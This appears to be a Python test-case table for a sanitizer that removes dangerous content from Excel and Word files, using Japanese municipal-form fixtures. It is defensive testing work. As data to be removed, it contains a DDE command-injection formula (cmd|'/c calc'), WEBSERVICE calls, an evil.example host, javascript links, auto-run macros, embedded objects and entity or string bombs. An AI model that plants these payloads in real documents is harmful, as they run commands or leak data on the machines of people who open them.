
CASES = [
    Case("office-form", form, ["vba-project"], kept=[
        "山田太郎", "やまだたろう", "令和八年度　辻\U000E0100村", "ROUND(C5*税率,0)", "DATESTRING(B4)", "PHONETIC(B3)",
        "INDIRECT($B$4)", '"男,女,回答しない"', "記入上の注意", 'vert="eaVert"', "楷書で ", "書くこと",
        "https://www.city.example.lg.jp/shinsei/", "&apos;一覧 表&apos;!A1".replace("&apos;", "'"), "様式第１号",
        "_xlnm.Print_Area", "_xlnm.Print_Titles", '<brk id="40"', "<sheetProtection", 'state="hidden"', "ggge",
        'fmlaLink="$H$5"', 'altText="同意する"', "<x:Row>2</x:Row>", 'textRotation="255"', "<mergeCell ", "公印"],
        gone=["Run", "codeName"]),
    Case("office-grid", grid, kept=["会", 'width="2.625"', '<mergeCell ref="C2:U2"/>']),
    Case("office-table", table_book, ["unknown-extension"], kept=[
        "売上[[#This Row],[単価]]*2", "SUBTOTAL(109,売上[金額])", "一覧!$A$1:$A$3", "$A$1&gt;一覧!$A$1", "売上!A2:A4",
        "x14:sparkline", "x14:dataValidation", "x14:cfRule", "<tablePart ", "TableStyleMedium2"], gone=["webExtensions"]),
    Case("office-dynamic", dynamic, ["formula"], kept=["_xlfn._xlws.SORT", 'cm="1"', "取得済み", "fDynamic"],
         gone=["WEBSERVICE", "evil.example"]),
    Case("office-pivot", pivot, kept=["worksheetSource", "総務", "合計 / 額", "PivotStyleLight16"],
         gone=["refreshOnLoad", "refreshedBy"]),
    Case("office-thread", thread, kept=["鈴木 花子", "金額を確認", "ThreadedComments"]),
    Case("O017-agile", lambda: locked_agile(simple("WEBSERVICE(A1)").bytes()), ["formula"], gone=["WEBSERVICE"]),
    Case("O017-standard", lambda: locked_standard(simple("WEBSERVICE(A1)").bytes()), ["formula"], gone=["WEBSERVICE"]),
    Case("O017-password", lambda: locked_agile(simple().bytes(), "himitsu"), verdict="removed"),
    Case("O018-macros", macros, ["macro-sheet", "vba-project", "formula"], kept=["町民税", "前の値", 'localSheetId="0"'],
         gone=["Macro1", "uto_", "activeTab", "Dialog1", "EXEC"], suffix=".xlsm"),
    Case("O018-shown", shown_macros, ["macro-sheet", "formula", "vba-project"], suffix=".xlsm",
         kept=["手順書1", "手順書3", "町民税", "<f>Macro1!A1</f>", "隠れた値", "Macro3!$A$1", "<f>SUM(1,1)</f>",
               'name="Macro3" sheetId="3"', '<c r="B1" t="b"><v>1</v></c>', "worksheets/sheet3.xml"],
         gone=["手順書2", "Macro2", "EXEC", "uto_", "acrosheet", "activeTab", "worksheets/sheet4.xml"]),
    Case("O018-abroad", lambda: shown_macros("xlIntlMacrosheet", "intlmacrosheet"), ["macro-sheet", "formula"],
         kept=["手順書1", "<f>Macro1!A1</f>"], gone=["手順書2", "EXEC", "acrosheet"]),
    Case("O018-renamed", macros, ["macro-sheet", "vba-project"], gone=["Macro1"]),
] + [
    Case("O019-" + name, lambda f=formula: simple(f), ["formula"], kept=["町民税", "<v>値</v>"], gone=gone)
    for name, formula, gone in FORMULAS
] + [
    Case("O019-no-value", lambda: simple("cmd|'/c calc'!A0", ""), ["formula"],
         kept=["<v>'=cmd|'/c calc'!A0</v>"], gone=["<f>"]),
    Case("O019-hyperlink-web", lambda: simple("HYPERLINK(&quot;https://www.city.example.lg.jp/&quot;,&quot;町&quot;)"),
         kept=["<f>HYPERLINK("]),
    Case("O019-shared", shared, ["formula"], kept=["<v>3</v>", "C2+1"], gone=["WEBSERVICE", 'si="0"']),
    Case("O019-names", names, ["formula"], kept=["収支!$A$1", "#REF!", "<v>5</v>"], gone=["[1]", "cmd|", "外の値+1"]),
    Case("O019-column", lambda: table_book("WEBSERVICE(売上[[#This Row],[単価]])", "WEBSERVICE(A1)"), ["formula"],
         kept=["#REF!"], gone=["WEBSERVICE", "calculatedColumnFormula"]),
    Case("O019-validation", lambda: table_book(validation="[1]S!$A$1:$A$3"), ["formula"], kept=["単価"],
         gone=["[1]", "x14:dataValidation"]),
    Case("O019-rule", lambda: table_book(rule="WEBSERVICE(A1)=1"), ["formula"], kept=["単価", "x14:dataValidation"],
         gone=["WEBSERVICE", "x14:conditionalFormatting"]),
    Case("O019-scale", lambda: table_book(scale="WEBSERVICE(A1)"), ["formula"], kept=["単価"], gone=["WEBSERVICE"]),
    Case("O019-sparkline", lambda: table_book(spark="[1]S!A1:A3"), ["formula"], kept=["単価"], gone=["[1]", "sparkline"]),
    Case("O019-control", linked_control, ["formula"], gone=["[1]", "WEBSERVICE", "FmlaMacro"]),
    Case("O004-outside", outside, ["external-target", "printer-settings", "formula"], kept=["町民税", "<v>7</v>"],
         gone=["evil", "javascript", "oleObject", "hyperlink", "[1]"]),
    Case("O004-tip", misleading, ["link-text"], kept=["町民税", "evil.example"], gone=["bank.example"]),
    Case("O020-query", query, ["connection", "custom-xml"], kept=["町民税", "<tablePart "],
         gone=["connection", "queryTable", "Mashup"]),
    Case("O020-pivot", lambda: pivot('type="external" connectionId="1"/>'), ["external-target"], kept=["総務"],
         gone=["connectionId", "external"]),
    Case("O008-objects", objects, ["embedded-object", "activex"], gone=["oleObject", "control", "中の表"]),
    Case("O015-entities", entities, verdict="removed"),
    Case("O016-strings", bomb, verdict="removed"),
    Case("O021-binary", binary, verdict="removed", suffix=".xlsb"),
    Case("O032-strict", strict, ["formula"], gone=["WEBSERVICE"]),
    Case("O030-named-docx", lambda: simple("WEBSERVICE(A1)"), ["formula"], gone=["WEBSERVICE"], suffix=".docx"),
]
